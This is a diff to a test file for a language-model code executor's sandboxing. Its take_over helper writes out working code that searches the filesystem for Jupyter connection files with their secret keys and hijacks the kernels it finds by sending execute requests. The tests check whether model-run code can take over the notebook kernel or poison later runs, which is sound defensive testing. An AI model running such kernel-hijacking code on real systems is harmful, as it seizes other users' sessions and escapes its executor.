@@ -29,7 +29,7 @@ def take_over(marker: str, payload: str) -> str:
     """Attack code: every connection file it can find, sent ``payload`` as an execute request."""
     return textwrap.dedent(
         f"""
-        import glob, json, os
+        import json, os
         from jupyter_client import BlockingKernelClient
         places = [{jupyter_runtime_dir()!r}, os.path.expanduser('~/.local/share/jupyter/runtime'),
                   '/tmp', '/dev/shm', '/run/user', '/root/.local/share/jupyter/runtime']
@@ -40,8 +40,14 @@ def take_over(marker: str, payload: str) -> str:
                 return isinstance(info, dict) and 'key' in info and 'shell_port' in info
             except (OSError, ValueError):
                 return False
-        found = {{f for p in places for f in glob.glob(p + '/**/*.json', recursive=True) if connection(f)}}
-        files = sorted(found, key=os.path.getmtime, reverse=True)[:20]
+        def found():
+            # A few levels under each place, as a search that must finish would look; newest first.
+            for place in places:
+                for root, dirs, names in os.walk(place):
+                    if root.count(os.sep) - place.count(os.sep) >= 4:
+                        dirs[:] = []
+                    yield from (os.path.join(root, n) for n in names if n.endswith('.json'))
+        files = sorted({{f for f in found() if connection(f)}}, key=os.path.getmtime, reverse=True)[:20]
         hits = []
         for path in files:
             try:
@@ -94,12 +100,12 @@ def test_without_a_sandbox_the_same_code_takes_the_notebook_kernel_over(
         "import os\n"
         "r = RLM('openai', {'model_name': 'gpt-4o-mini', 'base_url': os.environ['OPENAI_BASE_URL']}, "
         "log_dir=False, executor='kernel', executor_kwargs={'isolation': 'none'}).completion(doc, 'q')\n"
-        "print(r.ok)"
+        "print(r.ok, [e.output for e in r.trajectory if type(e).__name__ == 'StepFinished'])"
     )
     notebook_kernel.wait_idle(msg_id, timeout=120)
     check = notebook_kernel.start("print('TAKEN' in globals())")
     assert notebook_kernel.wait_idle(check, timeout=60) is not None
-    assert notebook_kernel.text(check).strip() == "True"
+    assert notebook_kernel.text(check).strip() == "True", notebook_kernel.text(msg_id)[-2000:]
 
 
 def test_a_run_cannot_poison_the_warm_kernel_of_the_next_run(server: ScriptedServer, tmp_path: Path) -> None:
